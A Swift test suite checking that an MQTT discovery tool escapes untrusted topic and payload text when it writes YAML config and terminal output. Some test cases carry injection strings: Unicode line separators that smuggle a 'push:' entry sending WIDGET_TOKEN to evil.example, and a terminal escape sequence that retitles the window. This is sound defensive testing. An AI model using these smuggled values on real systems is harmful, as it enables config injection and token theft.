import Configuration
import Discovery
import FlowCore
import Foundation
import TestSupport
import Testing

/// What a broker carries is anyone's text: whoever may publish there can name a topic, a device or
/// a JSON key as they like. Discovery writes every such text into the config as the same text,
/// never as config of its own.
@Suite struct DiscoverEscapeTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var name: String
        /// What the stranger publishes, in topics and in payloads.
        var text: String
        var testDescription: String { name }
    }

    static let cases: [Case] = [
        Case(name: "line feed", text: "a\nb"), Case(name: "carriage return", text: "a\rb"), Case(name: "NEL U+0085", text: "a\u{85}b"),
        Case(name: "line separator U+2028", text: "a\u{2028}b"), Case(name: "paragraph separator U+2029", text: "a\u{2029}b"),
        Case(name: "comment sign", text: "a #b"), Case(name: "colon and space", text: "a: b"), Case(name: "quotes", text: #"a"b'c"#),
        Case(name: "backslashes", text: #"a\nb\"#), Case(name: "NUL", text: "a\u{0}b"), Case(name: "DEL and tab", text: "a\u{7F}\tb"),
        Case(name: "BOM and a right-to-left override", text: "a\u{FEFF}b\u{202E}c"),
        Case(name: "an escape sequence for the terminal", text: "a\u{1B}[2Jb"),
        // A push to the stranger's server with the user's token, planted inside the widget and at the top.
        Case(name: "a planted push: line", text: "x\u{2028}    push: {url: \"https://evil.example/c\", token_env: WIDGET_TOKEN}\u{2028}#"),
        Case(name: "a planted output: section", text: "x\u{2029}output: {push: {url: \"https://evil.example/c\", token_env: WIDGET_TOKEN}}\u{85}#"),
    ]

    /// The messages a broker carries with `text` in every place discovery writes down: an
    /// inverter's name (payload), a Home Assistant base topic (placed), a Victron portal (placed,
    /// and its keepalive), a plug's topic (left out, with the line that would add it), an unknown
    /// topic and an unknown JSON key (not placed).
    static func messages(_ text: String) -> (messages: [(String, String)], sources: [String], keepalive: String) {
        // A Victron portal is one topic level without wildcards.
        let portal = String(text.map { "/+#".contains($0) ? "_" : $0 })
        let key = JSONValue.object(["Leistung " + text: .number(512)]).description
        // In the order the config writes them: inputs, storage, exchange.
        let placed = ["solar/114190641177/0/power", "N/\(portal)/system/0/Dc/Battery/Power", "ha\(text)/sensor/grid_power/state"]
        let messages = [
            ("solar/114190641177/name", text), (placed[0], "2500"), (placed[1], #"{"value": -1200}"#), (placed[2], "-300"),
            ("zigbee2mqtt/plug\(text)", #"{"power": 12, "linkquality": 80}"#), ("home/power\(text)", "1250"), ("custom/meter\(text)", key),
        ]
        return (messages, placed, "R/\(portal)/keepalive")
    }

    /// YAML's line breaks beyond the line feed, and what it refuses to read at all: neither may
    /// stand in the file, or a comment ends where the reader of the file did not see it end.
    static func unsafe(_ scalar: Unicode.Scalar) -> Bool {
        let value = scalar.value
        if value == 0x0A { return false }
        return value < 0x20 || (0x7F...0x9F).contains(value) || value == 0x2028 || value == 0x2029 || value == 0xFEFF || value == 0xFFFE || value == 0xFFFF
    }

    @Test(arguments: cases)
    func theConfigHoldsWhatWasHeardByteForByteAndNothingMore(_ test: Case) throws {
        let (messages, sources, keepalive) = Self.messages(test.text)
        var discovery = Discovery()
        for (topic, payload) in messages { discovery.hear(topic: topic, payload: Array(payload.utf8), retained: false) }
        let plan = discovery.plan
        #expect(plan.unplaced.count == 2, "\(plan.unplaced)")
        #expect(plan.leftOut.map(\.topic) == ["zigbee2mqtt/plug\(test.text)"])
        let text = plan.configText(broker: BrokerSettings(host: "127.0.0.1", port: 1883), heard: Heard(messages: messages.count, topics: messages.count, seconds: 60))

        let unsafe = text.unicodeScalars.filter(Self.unsafe)
        #expect(unsafe.isEmpty, "written raw: \(unsafe.map { String($0.value, radix: 16) })\n\(text)")
        let root = try YAMLDocument.parse(text)
        #expect(root.pairs?.map { $0.key.scalarValue } == ["mqtt", "keepalive", "sources", "widgets"], "\(text)")
        #expect(root["keepalive"]?.items?.map { Self.fields($0) } == [["topic": keepalive, "interval": "30s"]])
        let written = root["sources"]?.pairs?.map { Self.fields($0.value) } ?? []
        #expect(written.map { Array(($0["topic"] ?? "").utf8) } == sources.map { Array($0.utf8) }, "\(text)")
        let allowed: Set<String> = ["topic", "json", "unit", "invert", "stale_after"]
        #expect(written.allSatisfy { Set($0.keys).isSubset(of: allowed) }, "\(written)")
        let widget = root["widgets"]?["power"]
        #expect(root["widgets"]?.pairs?.map { $0.key.scalarValue } == ["power"])
        #expect(widget?.pairs?.map { $0.key.scalarValue } == ["template", "label", "unit", "flow"], "\(text)")
        #expect(widget?["flow"]?.pairs?.map { $0.key.scalarValue } == ["inputs", "storage", "exchange", "output"], "\(text)")
    }

    /// The same through a real broker: a stranger's retained topic, with a line separator and a
    /// widget's `push:` behind it, is listed among what was not placed, and the file has no push.
    @Test(.enabled(if: MosquittoBroker.isAvailable, MosquittoBroker.skipReason))
    func aRetainedTopicCannotPlantAPush() async throws {
        let broker = try await MosquittoBroker()
        let folder = TemporaryFolder()
        // The list of what was not placed ends the file, below the widget: four spaces make a key of it.
        let planted = "home/power\u{2028}    push: {url: \"https://evil.example/c\", token_env: WIDGET_TOKEN}"
        try await broker.publish(topic: planted, payload: "1250", retain: true)
        try await broker.publish(topic: "evcc/site/battery/power", payload: "-1200", retain: true)
        let out = folder.url.appendingPathComponent("found.yaml").path
        let run = try runFlowbridge(["discover", "--broker", "127.0.0.1:\(broker.port)", "--listen", "3s", "--out", out])
        #expect(run.status == 0, "\(run.err)")
        let text = try String(contentsOfFile: out, encoding: .utf8)
        #expect(try YAMLDocument.parse(text).pairs?.map { $0.key.scalarValue } == ["mqtt", "sources", "widgets"], "\(text)")
        let config = try DaemonConfig.parse(text, file: out)
        #expect(config.pushes.isEmpty && !config.hasSink, "\(text)")
    }

    /// What discover tells the terminal about a device it heard is escaped as the config is: a
    /// device names itself in its payload, here with a control sequence that retitles the
    /// terminal window, and that must reach the user's terminal as text, not be played.
    @Test(.enabled(if: MosquittoBroker.isAvailable, MosquittoBroker.skipReason))
    func aDevicesControlSequenceReachesTheTerminalAsText() async throws {
        let broker = try await MosquittoBroker()
        let folder = TemporaryFolder()
        try await broker.publish(topic: "solar/114190641177/name", payload: "Roof\u{1B}]0;owned\u{07}", retain: true)
        try await broker.publish(topic: "solar/114190641177/0/power", payload: "2500", retain: true)
        let out = folder.url.appendingPathComponent("found.yaml").path
        let run = try runFlowbridge(["discover", "--broker", "127.0.0.1:\(broker.port)", "--listen", "3s", "--out", out])
        #expect(run.status == 0, "\(run.err)")
        #expect(run.out.contains("Roof\\u001B]0;owned\\u0007"), "\(run.out)")
        #expect(!(run.out + run.err).unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 }, "\(run.out)")
    }

    /// A flow mapping's scalars by key.
    static func fields(_ node: YAMLNode) -> [String: String] {
        var fields: [String: String] = [:]
        for (key, value) in node.pairs ?? [] { fields[key.scalarValue ?? ""] = value.scalarValue ?? "(not a scalar)" }
        return fields
    }
}
